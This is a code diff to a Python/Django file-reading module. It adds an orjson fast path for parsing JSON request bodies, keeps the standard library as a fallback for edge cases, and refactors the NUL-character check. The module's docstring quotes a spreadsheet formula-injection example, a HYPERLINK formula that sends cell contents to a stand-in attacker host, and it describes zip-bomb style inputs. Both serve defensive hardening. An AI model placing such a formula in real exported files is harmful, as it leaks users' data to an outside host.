@@ -5,9 +5,10 @@ worker's memory or minutes. An .xlsx is a zip of XML: its members are decompress
 file is refused past `MAX_XLSX_UNCOMPRESSED` whatever sizes its headers claim (a shared-strings bomb of
 100 KB otherwise grew to 619 MB). openpyxl pads every row to the sheet's declared `<dimension>`
 (`A1:XFD8000` made a 1.6 KB file cost 1.26 GB), so the declared size is ignored, columns are read up to a
-bound and rows counted as they are read. JSON is parsed by the standard library, which stops at Python's
-recursion limit; anything nested deeper than `MAX_JSON_DEPTH` is refused, so nothing stored can break a
-later reader or writer that recurses.
+bound and rows counted as they are read. JSON is parsed by orjson (about 4x faster; every LRS body passes
+here) and, for whatever orjson refuses or might read differently, by the standard library, so the answers
+are the standard library's (see `read_json`); anything nested deeper than `MAX_JSON_DEPTH` is refused, so
+nothing stored can break a later reader or writer that recurses.
 
 Writing (`new_workbook`, `append_row`): openpyxl stores a string that starts with "=" as a formula, so a
 name such as `=HYPERLINK("http://evil.example/?x="&A1,"点我")` would go live in an exported file. Every
@@ -26,6 +27,7 @@ import re
 import zipfile
 from typing import Any
 
+import orjson
 from django.utils.translation import gettext as _
 
 MAX_XLSX_UNCOMPRESSED = 64 * 1024 * 1024  # the XML of a 50,000-row roster is a few MB
@@ -107,8 +109,25 @@ def _too_big() -> UnreadableFile:
 def read_json(content: bytes | str, *, max_depth: int = MAX_JSON_DEPTH) -> Any:
     """The parsed JSON value. Raises UnreadableFile for bad UTF-8, bad JSON, or nesting deeper than
     `max_depth` (objects and arrays)."""
+    # Bytes (request bodies) go through orjson first; the standard library (below) reads what orjson refuses
+    # (bad UTF-8, a BOM, NaN, 1e999, lone surrogates, nesting past 1,024, bad syntax), so those answers and
+    # messages stay the same. orjson reads an integer past 64 bits as a float (silently inexact), so a body
+    # with a run of 19+ digits anywhere (rare: in strings too) goes to the standard library, which keeps
+    # the integer exact. (The digit check: 0.05 ms for 80 KB; a regex took 0.9.)
+    binary = isinstance(content, bytes | bytearray)
+    if binary and _LONG_DIGITS not in content.translate(_DIGITS_AS_ZERO):
+        try:
+            value = orjson.loads(content)
+        except orjson.JSONDecodeError:
+            pass
+        else:
+            if _has_nul(content):
+                raise _nul()
+            # (orjson refuses lone surrogates, so what it read always encodes as UTF-8.)
+            check_depth(value, max_depth)
+            return value
     try:
-        text = content.decode("utf-8-sig") if isinstance(content, bytes | bytearray) else content
+        text = content.decode("utf-8-sig") if binary else content
         value = json.loads(text, parse_constant=_not_json, parse_float=_finite)
     except UnicodeDecodeError:
         raise UnreadableFile(_("JSON 不是 UTF-8 编码。")) from None
@@ -121,8 +140,8 @@ def read_json(content: bytes | str, *, max_depth: int = MAX_JSON_DEPTH) -> Any:
         raise
     except ValueError:  # an integer of more than 4,300 digits (Python's int conversion limit)
         raise UnreadableFile(_("JSON 中的数字位数太多，未读取。")) from None
-    if "\\u0000" in text or "\x00" in text:  # PostgreSQL stores no NUL in text or jsonb: never real input
-        raise UnreadableFile(_("JSON 含有 NUL 字符（\\u0000），未读取。"))
+    if _has_nul(text):  # PostgreSQL stores no NUL in text or jsonb: never real input
+        raise _nul()
     if _SURROGATE_ESCAPE.search(text) and not _encodable(value):
         # "\ud800" alone is valid JSON syntax but no Unicode text: it cannot be stored or sent back as UTF-8.
         raise UnreadableFile(_("JSON 含有不成对的 UTF-16 代理项（如 \\ud800），未读取。"))
@@ -131,6 +150,18 @@ def read_json(content: bytes | str, *, max_depth: int = MAX_JSON_DEPTH) -> Any:
 
 
 _SURROGATE_ESCAPE = re.compile(r"\\u[dD][89a-fA-F]")
+_DIGITS_AS_ZERO = bytes(48 if 48 <= b <= 57 else 32 for b in range(256))  # every digit "0", all else " "
+_LONG_DIGITS = b"0" * 19  # 18 digits always fit in 64 bits
+
+
+def _has_nul(text: bytes | str) -> bool:
+    if isinstance(text, bytes | bytearray):
+        return b"\\u0000" in text or b"\x00" in text
+    return "\\u0000" in text or "\x00" in text
+
+
+def _nul() -> UnreadableFile:
+    return UnreadableFile(_("JSON 含有 NUL 字符（\\u0000），未读取。"))
 
 
 def _not_json(name: str):
